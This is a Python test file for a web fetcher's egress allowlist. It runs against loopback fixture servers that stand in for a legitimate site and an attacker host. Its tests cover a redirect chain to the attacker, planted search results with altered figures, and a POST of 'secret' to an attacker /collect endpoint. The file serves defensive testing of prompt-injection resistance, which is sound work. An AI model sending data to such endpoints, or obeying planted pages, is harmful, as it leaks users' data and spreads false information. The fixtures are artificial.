"""The fixture servers: real HTTP on loopback, seen through the production egress path."""

from __future__ import annotations

import httpx
import pytest
from spanproof.adversarial_fixtures.manifest import load_fixtures
from spanproof.adversarial_fixtures.server import ATTACKER_HOST, SITE_HOST, FixtureSite

from spanproof.core.tool_schema import ToolFailure
from spanproof.web.egress import EgressPolicy, Fetcher
from spanproof.web.snapshots import SnapshotStore

FIXTURES = {f.id: f for f in load_fixtures()}


@pytest.fixture(scope="module")
def site():
    # any free port: these tests reach the servers directly, where their URLs say
    with FixtureSite(port=None) as s:
        yield s


def fetcher_for(site: FixtureSite, tmp_path, allow=None) -> Fetcher:
    policy = EgressPolicy(
        allow_hosts=allow if allow is not None else site.allow_hosts,
        allow_networks=["127.0.0.0/8"],
    )
    return Fetcher(policy, SnapshotStore(tmp_path / "snap"))


def test_hosts_are_distinct_loopback_addresses(site):
    assert site.site.startswith(SITE_HOST + ":")
    assert site.attacker.startswith(ATTACKER_HOST + ":")
    assert site.allow_hosts == [site.site]


async def test_a_page_is_served_with_its_placeholders_filled(site, tmp_path):
    fixture = FIXTURES["fetch-request"]
    fetcher = fetcher_for(site, tmp_path)
    doc = await fetcher.fetch(site.page_url(fixture))
    raw = httpx.get(site.page_url(fixture)).text
    assert "{{ATTACKER}}" not in raw and f"http://{site.attacker}/air-quality" in raw
    assert "46.2 percent" not in doc.text and "31 micrograms" in doc.text
    assert [e.decision for e in fetcher.events] == ["allowed"]
    await fetcher.aclose()


async def test_redirect_chain_is_refused_at_the_attacker_hop(site, tmp_path):
    fixture = FIXTURES["redirect-chain"]
    site.clear_log()
    fetcher = fetcher_for(site, tmp_path)
    with pytest.raises(ToolFailure) as err:
        await fetcher.fetch(site.page_url(fixture))
    assert err.value.detail.error == "URL_NOT_ALLOWED"
    decisions = [(e.host, e.decision) for e in fetcher.events]
    assert decisions == [
        (site.site, "allowed"),
        (site.site, "allowed"),
        (site.attacker, "refused"),
    ]
    assert not [r for r in site.requests if r.server == "attacker"]
    await fetcher.aclose()


async def test_with_the_allowlist_open_the_chain_reaches_the_attacker(site, tmp_path):
    fixture = FIXTURES["redirect-chain"]
    site.clear_log()
    fetcher = fetcher_for(site, tmp_path, allow=[SITE_HOST, ATTACKER_HOST])
    doc = await fetcher.fetch(site.page_url(fixture))
    assert "GULL-FERRY-88" in doc.text
    assert [r.path for r in site.requests if r.server == "attacker"] == [f"/{fixture.file}"]
    await fetcher.aclose()


async def test_oversized_page_is_generated_at_serve_time_and_refused(site, tmp_path):
    fixture = FIXTURES["oversized-page"]
    response = httpx.get(site.page_url(fixture))
    assert len(response.content) > 2_000_000 and "NEWT-HUGE-2" in response.text
    fetcher = fetcher_for(site, tmp_path)
    with pytest.raises(ToolFailure) as err:
        await fetcher.fetch(site.page_url(fixture))
    assert err.value.detail.error == "TOO_LARGE"
    await fetcher.aclose()


def test_servers_log_every_method(site):
    site.clear_log()
    assert httpx.post(f"http://{site.attacker}/collect", content=b"secret").status_code == 405
    assert httpx.get(f"http://{site.attacker}/anything?q=1").status_code == 200
    assert [(r.server, r.method, r.path) for r in site.requests] == [
        ("attacker", "POST", "/collect"),
        ("attacker", "GET", "/anything?q=1"),
    ]


def test_search_hits_cover_pages_and_planted_results(site):
    hits = site.search_hits()
    urls = [h.url for h in hits]
    assert len(urls) == 81  # 79 pages + the two planted attacker results
    assert f"http://{site.attacker}/air-quality/updated-figures.txt" in urls
    assert f"http://{site.site}/go/redirect-chain/1" in urls
    for hit in hits[:3]:
        assert hit.snippet and "ignore" not in hit.snippet.lower()
